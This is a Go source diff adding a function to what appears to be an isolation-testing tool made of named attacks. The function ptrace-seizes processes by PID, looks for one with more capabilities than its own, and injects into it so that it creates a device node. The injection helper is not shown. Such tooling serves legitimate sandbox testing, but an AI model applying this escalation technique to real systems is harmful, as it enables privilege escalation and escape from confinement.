@@ -2,6 +2,8 @@ package main
 
 import (
 	"fmt"
+	"os"
+	goruntime "runtime"
 	"strconv"
 	"time"
 
@@ -156,5 +158,32 @@ func tracedExec(name, about, needs string, change func(b *bundle)) attack {
 			}
 			return ""
 		},
+	}
+}
+
+// traceOthers attaches to the first new process that has more rights than this one,
+// and lets it make a device node.
+func traceOthers(args []string) error {
+	goruntime.LockOSThread()
+	own := statusField(os.Getpid(), "CapPrm")
+	for {
+		for pid := 2; pid < 400; pid++ {
+			if unix.PtraceSeize(pid) != nil {
+				continue
+			}
+			if statusField(pid, "CapPrm") > own {
+				if err := injectSeized(pid, args[0]); err == nil {
+					return nil
+				}
+				if name, err := os.Hostname(); err == nil && name == injectedName {
+					return os.WriteFile("/named", nil, 0o644)
+				}
+			}
+			// Only a stopped one can be let go.
+			_ = unix.PtraceInterrupt(pid)
+			var ws unix.WaitStatus
+			_, _ = unix.Wait4(pid, &ws, unix.WALL, nil)
+			_ = unix.PtraceDetach(pid)
+		}
 	}
 }
